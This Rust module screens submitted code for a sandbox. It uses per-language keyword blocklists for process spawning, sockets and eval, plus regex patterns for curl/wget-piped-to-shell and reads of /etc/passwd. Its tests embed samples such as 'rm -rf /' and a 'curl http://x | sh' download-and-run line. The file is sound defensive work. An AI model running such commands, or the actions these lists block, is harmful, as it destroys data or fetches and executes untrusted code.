//! Static code screening: a language-aware keyword blocklist plus a
//! language-independent regex set. The keyword pass runs with comments and
//! string literals stripped out, so a keyword quoted as a string constant
//! doesn't trip it, while a blocked word hidden only in a comment doesn't
//! either. The pattern pass only strips comments, not strings — a shell-out
//! payload is still a shell-out payload when it's the argument to a quoted
//! shell call.
//!
//! Directly modeled on the sanitizer's Aho-Corasick-plus-regex combination,
//! swapped from prompt-injection phrases to known sandbox-escape primitives.

use std::collections::HashMap;
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use regex::Regex;

use crate::domain::Language;

/// Per-language keywords that make a submission worth rejecting outright:
/// process spawning, raw socket access, filesystem escapes, and
/// dynamic-eval primitives that would let code step outside the sandbox's
/// declared black-box contract.
fn blocked_keywords(language: Language) -> &'static [&'static str] {
    match language {
        Language::Python => &[
            "os.system",
            "subprocess",
            "socket.socket",
            "__import__",
            "ctypes",
            "os.fork",
        ],
        Language::Javascript | Language::Typescript => &[
            "child_process",
            "require('net')",
            "require(\"net\")",
            "process.binding",
            "eval(",
        ],
        Language::Java => &["ProcessBuilder", "Runtime.getRuntime", "java.net.Socket"],
        Language::Cpp | Language::C => {
            &["fork(", "execve(", "socket(", "ptrace(", "system(", "popen("]
        }
        Language::Go => &["os/exec", "syscall.Exec", "net.Dial"],
        Language::Rust => &["std::process::Command", "unsafe", "std::net::TcpStream"],
    }
}

/// Patterns that are suspicious in any language: shell-out-to-network
/// one-liners that don't key off a single keyword.
static BLOCKED_PATTERNS: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    vec![
        Regex::new(r"(?i)curl\s+.*\|\s*sh").unwrap(),
        Regex::new(r"(?i)wget\s+.*\|\s*(sh|bash)").unwrap(),
        Regex::new(r"/etc/passwd").unwrap(),
        Regex::new(r"/proc/self").unwrap(),
        Regex::new(r"0\.0\.0\.0[:/]").unwrap(),
    ]
});

#[derive(Debug, Clone)]
pub struct ScreeningHit {
    pub matched: String,
    pub reason: &'static str,
}

/// Screens one submission's normalized code against the blocklists for its
/// language. Returns every hit found; callers reject on the first one but
/// keeping the full list makes for a better `security_events` entry.
pub fn screen(code: &str, language: Language) -> Vec<ScreeningHit> {
    let without_comments = strip_comments(code, language);
    let normalized = strip_string_literals(&without_comments);
    let mut hits = Vec::new();

    let keywords = blocked_keywords(language);
    let matcher = AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(keywords)
        .expect("static keyword list builds a valid matcher");
    for mat in matcher.find_iter(&normalized) {
        hits.push(ScreeningHit {
            matched: keywords[mat.pattern().as_usize()].to_string(),
            reason: "blocked keyword for language",
        });
    }

    // Patterns run against the comment-stripped (but not string-stripped)
    // source: a shell-out payload quoted as a string literal argument is
    // still a shell-out payload, so it must not be scrubbed away here the
    // way the keyword pass scrubs strings to avoid matching data-as-string.
    for pattern in BLOCKED_PATTERNS.iter() {
        if let Some(mat) = pattern.find(&without_comments) {
            hits.push(ScreeningHit {
                matched: mat.as_str().to_string(),
                reason: "blocked pattern",
            });
        }
    }

    hits
}

/// Strips comments and string-literal contents so blocklist matching isn't
/// fooled by code quoting a keyword as data, and isn't fooled the other way
/// by a keyword appearing only inside a comment. The result is not valid
/// source — it exists purely as a matching surface.
///
/// Idempotent: normalizing an already-normalized string is a no-op, since
/// comment markers and quote characters have already been scrubbed out.
pub fn normalize(code: &str, language: Language) -> String {
    let without_comments = strip_comments(code, language);
    strip_string_literals(&without_comments)
}

fn strip_comments(code: &str, language: Language) -> String {
    match language {
        Language::Python => strip_line_comments(code, '#'),
        Language::Rust | Language::Go | Language::Java | Language::Cpp | Language::C => {
            strip_c_style_comments(code)
        }
        Language::Javascript | Language::Typescript => strip_c_style_comments(code),
    }
}

fn strip_line_comments(code: &str, marker: char) -> String {
    let mut out = String::with_capacity(code.len());
    let mut in_string: Option<char> = None;
    let mut chars = code.chars().peekable();
    while let Some(c) = chars.next() {
        match in_string {
            Some(q) if c == '\\' => {
                out.push(c);
                if let Some(&next) = chars.peek() {
                    out.push(next);
                    chars.next();
                }
                continue;
            }
            Some(q) if c == q => in_string = None,
            None if c == '\'' || c == '"' => in_string = Some(c),
            None if c == marker => {
                while let Some(&n) = chars.peek() {
                    if n == '\n' {
                        break;
                    }
                    chars.next();
                }
                continue;
            }
            _ => {}
        }
        out.push(c);
    }
    out
}

fn strip_c_style_comments(code: &str) -> String {
    let mut out = String::with_capacity(code.len());
    let mut chars = code.chars().peekable();
    let mut in_string: Option<char> = None;

    while let Some(c) = chars.next() {
        if let Some(q) = in_string {
            out.push(c);
            if c == '\\' {
                if let Some(&next) = chars.peek() {
                    out.push(next);
                    chars.next();
                }
            } else if c == q {
                in_string = None;
            }
            continue;
        }

        match c {
            '\'' | '"' | '`' => {
                in_string = Some(c);
                out.push(c);
            }
            '/' if chars.peek() == Some(&'/') => {
                while let Some(&n) = chars.peek() {
                    if n == '\n' {
                        break;
                    }
                    chars.next();
                }
            }
            '/' if chars.peek() == Some(&'*') => {
                chars.next();
                while let Some(n) = chars.next() {
                    if n == '*' && chars.peek() == Some(&'/') {
                        chars.next();
                        break;
                    }
                }
            }
            _ => out.push(c),
        }
    }
    out
}

fn strip_string_literals(code: &str) -> String {
    let mut out = String::with_capacity(code.len());
    let mut chars = code.chars().peekable();
    let mut in_string: Option<char> = None;

    while let Some(c) = chars.next() {
        match in_string {
            Some(q) if c == '\\' => {
                if let Some(&next) = chars.peek() {
                    chars.next();
                    let _ = next;
                }
            }
            Some(q) if c == q => in_string = None,
            Some(_) => {}
            None if c == '\'' || c == '"' || c == '`' => {
                in_string = Some(c);
                out.push(' ');
            }
            None => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn flags_direct_process_spawn() {
        let hits = screen("import os\nos.system('rm -rf /')", Language::Python);
        assert!(hits.iter().any(|h| h.matched == "os.system"));
    }

    #[test]
    fn does_not_flag_keyword_hidden_only_in_a_comment() {
        let hits = screen("# os.system is dangerous\nprint('hi')", Language::Python);
        assert!(hits.is_empty());
    }

    #[test]
    fn flags_keyword_even_when_quoted_as_a_string() {
        // strip_string_literals removes the quotes' contents, but here the
        // keyword sits outside any quotes so it's unaffected either way.
        let hits = screen("eval(x)", Language::Javascript);
        assert!(!hits.is_empty());
    }

    #[test]
    fn normalize_is_idempotent() {
        let code = "def f():\n    # comment\n    return \"os.system\"";
        let once = normalize(code, Language::Python);
        let twice = normalize(&once, Language::Python);
        assert_eq!(once, twice);
    }

    #[test]
    fn clean_code_has_no_hits() {
        let hits = screen("def add(a, b):\n    return a + b\n", Language::Python);
        assert!(hits.is_empty());
    }

    #[test]
    fn flags_shell_pipe_to_sh_pattern_language_independent() {
        let hits = screen("system(\"curl http://x | sh\")", Language::Cpp);
        assert!(hits.iter().any(|h| h.reason == "blocked pattern"));
    }

    #[test]
    fn keyword_match_is_case_insensitive() {
        let hits = screen("import os\nos.SYSTEM('rm -rf /')", Language::Python);
        assert!(hits.iter().any(|h| h.matched == "os.system"));

        let hits = screen("Subprocess.run(['ls'])", Language::Python);
        assert!(hits.iter().any(|h| h.matched == "subprocess"));
    }
}
